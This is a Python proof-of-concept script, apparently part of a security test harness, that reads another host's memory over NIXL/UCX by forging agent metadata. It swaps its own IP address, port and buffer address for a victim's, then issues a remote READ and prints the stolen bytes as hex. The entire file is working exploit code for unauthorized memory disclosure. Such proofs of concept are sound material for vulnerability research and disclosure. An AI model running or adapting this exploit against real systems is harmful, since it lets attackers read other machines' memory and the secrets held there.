"""Reads a victim's memory through a forged NIXL agent. Runs in its own process, on another host than the victim.

    python forged.py '{"own": HOST, "device": NAME, "victim": HOST, "port": N, "address": N, "bytes": N, "seconds": N}'

UCX packs host, port and memory address into the metadata that an agent gives to others. The script creates an agent,
replaces these three values in its metadata by the victim's values, and lets a second agent read from the forged
address. The script prints the state of this read and the bytes that were read, as JSON. A read that has not ended
within `seconds` has failed.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import sys
import time
from pathlib import Path

from harness.listening import listening

# Number of agents among which one has metadata that can be forged without doubt.
AGENTS = 20


def main(given: dict[str, object]) -> dict[str, object]:
    os.environ.update(
        UCX_TLS="tcp", UCX_NET_DEVICES=str(given["device"]), UCX_LOG_LEVEL="fatal", NIXL_LOG_LEVEL="FATAL"
    )
    # NIXL reads the variables when it is loaded.
    from nixl._api import nixl_agent, nixl_agent_config  # type: ignore[import-untyped]

    # The number of this process in the PID namespace that /proc shows.
    own = int(Path("/proc/self").readlink().name)
    size = int(str(given["bytes"]))
    reader = nixl_agent("reader", nixl_agent_config(backends=["UCX"]))
    memory, stolen = (ctypes.create_string_buffer(size) for _ in range(2))
    reader.register_memory([(ctypes.addressof(stolen), size, 0, "")], "DRAM")
    baits = []
    for _ in range(AGENTS):
        before = listening(own)
        baits.append(bait := nixl_agent("bait", nixl_agent_config(backends=["UCX"])))
        (listens,) = listening(own) - before
        bait.register_memory([(ctypes.addressof(memory), size, 0, "")], "DRAM")
        own_port = int(listens.rpartition(":")[2])
        values = [
            (ctypes.addressof(memory).to_bytes(8, "little"), int(str(given["address"])).to_bytes(8, "little")),
            (socket.inet_aton(str(given["own"])), socket.inet_aton(str(given["victim"]))),
            (own_port.to_bytes(2, "big"), int(str(given["port"])).to_bytes(2, "big")),
        ]
        metadata: bytes = bait.get_agent_metadata()
        for ours, _ in values:
            assert ours in metadata, (ours, "nothing to forge")
        # The metadata also has random bytes. If these contain the port, the forgery would change them, too.
        if is_clear(metadata, values):
            break
    forged = replaced(metadata, values)
    try:
        name = reader.add_remote_agent(forged)
        local = reader.get_xfer_descs([(ctypes.addressof(stolen), size, 0)], "DRAM")
        remote = reader.get_xfer_descs([(int(str(given["address"])), size, 0)], "DRAM")
        handle = reader.initialize_xfer("READ", local, remote, name)
        state = reader.transfer(handle)
        deadline = time.monotonic() + float(str(given["seconds"]))
        while state == "PROC" and time.monotonic() < deadline:
            time.sleep(0.02)
            state = reader.check_xfer_state(handle)
    except Exception as error:  # noqa: BLE001 - NIXL raises anything
        state = f"{type(error).__name__}: {error}"
    return {"state": state, "bytes": stolen.raw.hex()}


def replaced(data: bytes, values: list[tuple[bytes, bytes]]) -> bytes:
    """Replaces the first bytes of each pair by the second ones, but never inside the bytes of an earlier pair.

    The two bytes of a port are sometimes part of a memory address too.
    """
    if not values:
        return data
    (old, new), *later = values
    return new.join(replaced(part, later) for part in data.split(old))


def is_clear(data: bytes, values: list[tuple[bytes, bytes]]) -> bool:
    """Returns true if the last value, the port, occurs only once outside of the other values."""
    *others, (port, _) = values
    return replaced(data, [(old, b"") for old, _ in others]).count(port) == 1


if __name__ == "__main__":
    sys.stdout.write(json.dumps(main(json.loads(sys.argv[1]))) + "\n")
    sys.stdout.flush()
    # End the process directly: the destructor of an agent waits for endpoints that never connected.
    os._exit(0)
